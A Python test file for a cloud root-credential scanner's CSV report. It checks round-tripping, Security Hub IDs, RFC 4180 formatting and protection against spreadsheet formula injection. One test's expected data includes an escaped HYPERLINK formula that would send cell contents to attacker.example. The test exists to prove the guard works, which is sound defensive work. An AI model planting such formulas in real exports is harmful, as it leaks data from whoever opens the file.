"""results.csv reads back to exactly the results it was written from, and a spreadsheet never runs a field of
it as a formula, whatever an account is named."""

from __future__ import annotations

import csv
from pathlib import Path

from reports_helpers import HOSTILE_NAMES, RUN_AT, hostile_results

from rootguard.reports.csv_report import BOM, COLUMNS, read_csv, result_of, write_csv


def test_the_demo_csv_reads_back_to_the_scans_results(demo_scan) -> None:
    path = demo_scan.output_dir / "results.csv"
    rows = list(read_csv(path))
    assert [result_of(row) for row in rows] == demo_scan.results
    assert {row["run_at"] for row in rows} == {demo_scan.meta["run_at"]}
    assert {row["organization_id"] for row in rows} == {"o-rootguard01"}
    fail = [row for row in rows if row["status"] == "FAIL" and row["resource_kind"] == "ACCOUNT"]
    assert {row["resource_name"]: row["root_credentials"] for row in fail} == {
        "acquired-retail": "password; active access keys",
        "acquired-analytics": "MFA devices",
        "legacy-billing": "inactive access keys; signing certificates",
    }
    retail = next(row for row in fail if row["resource_name"] == "acquired-retail")
    assert (retail["password"], retail["active_access_keys"], retail["mfa_devices"]) == ("1", "1", "0")
    assert retail["joined_method"] == "INVITED" and retail["severity"] == "CRITICAL"


def test_finding_ids_in_the_csv_are_the_security_hub_ids(demo_scan) -> None:
    import json

    asff = json.loads((demo_scan.output_dir / "findings.asff.json").read_text(encoding="utf-8"))
    rows = list(read_csv(demo_scan.output_dir / "results.csv"))
    assert [row["finding_id"] for row in rows] == [f["Id"] for f in asff]


def test_hostile_names_round_trip_and_never_start_a_formula(tmp_path: Path) -> None:
    results = hostile_results()
    path = write_csv(tmp_path / "results.csv", results, {"run_at": RUN_AT.isoformat(), "organization": "o-x"})
    assert [result_of(row) for row in read_csv(path)] == results
    # What a spreadsheet sees: the raw fields, with no formula guard undone.
    with open(path, encoding="utf-8-sig", newline="") as handle:
        raw = list(csv.reader(handle))
    assert tuple(raw[0]) == COLUMNS
    for row in raw[1:]:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    names = [
        row[COLUMNS.index("resource_name")]
        for row in raw[1:]
        if row[COLUMNS.index("resource_kind")] == "ACCOUNT"
    ]
    assert '\'=HYPERLINK("http://attacker.example/?"&A1,"click")' in names
    assert "''quoted" in names and "'-2+3" in names and "'\tleading tab" in names
    assert len(names) == len(HOSTILE_NAMES)


def test_the_file_is_rfc4180_with_a_byte_order_mark(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "r.csv", hostile_results(), {"run_at": RUN_AT.isoformat()})
    data = path.read_bytes()
    assert data.startswith(BOM.encode("utf-8"))
    assert data.count(b"\r\n") >= len(hostile_results()) + 1
    assert b'"line\nbreak, comma; and ""quotes"""' in data  # quoted, inner quotes doubled, newline kept


def test_writing_again_replaces_the_file_whole(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    write_csv(path, hostile_results(), {})
    write_csv(path, hostile_results()[:3], {})
    assert len(list(read_csv(path))) == 3
    assert [p.name for p in tmp_path.iterdir()] == ["results.csv"], "no temporary file left behind"
